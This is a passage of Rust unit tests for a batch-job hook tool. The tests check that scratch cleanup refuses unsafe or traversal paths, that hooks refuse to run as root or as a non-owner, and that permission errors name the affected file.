    let prefix = pool.root.path().join("scratch");
    for bad in [
        prefix.join("vmcap-alice").join(".."),
        prefix.join("vmcap-alice"),
        prefix.clone(),
        j.iwd.clone(),
    ] {
        routed.insert("VMCapsuleScratch", Expr::string(bad.display().to_string()));
        pool.cleanup(&routed);
        assert!(prefix.join("vmcap-alice").is_dir(), "{}", bad.display());
        assert!(j.iwd.join("job.sh").exists());
    }
}

/// 11.12: a hook running as root, or as a user other than the job's owner, refuses.
#[test]
fn item_12_hooks_run_only_as_the_owner() {
    let (mut pool, alice) = alice_pool();
    let j = alice_job(&pool, alice, "identity", "", 1112);
    pool.run_as = None; // root
    let run = pool.translate(&j.ad).unwrap_err();
    assert!(
        run.stderr.contains("refusing to run as root"),
        "{}",
        run.stderr
    );
    pool.run_as = Some(account("vmcap-mallory"));
    let run = pool.translate(&j.ad).unwrap_err();
    assert!(
        run.stderr.contains("the job's Owner vmcap-alice is uid"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("condor_hold"));
}

/// 11.18: an input the owner cannot read is named in the hold reason.
#[test]
fn item_18_messages_name_the_file() {
    let (pool, alice) = alice_pool();
    let j = alice_job(
        &pool,
        alice,
        "unreadable",
        "transfer_input_files = secret.dat",
        1118,
    );
    let secret = j.iwd.join("secret.dat");
    fs::write(&secret, "root only").unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).unwrap();
    let run = pool.translate(&j.ad).unwrap_err();
    assert!(
        run.stderr.contains(&secret.display().to_string()),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("ermission denied"), "{}", run.stderr);
}
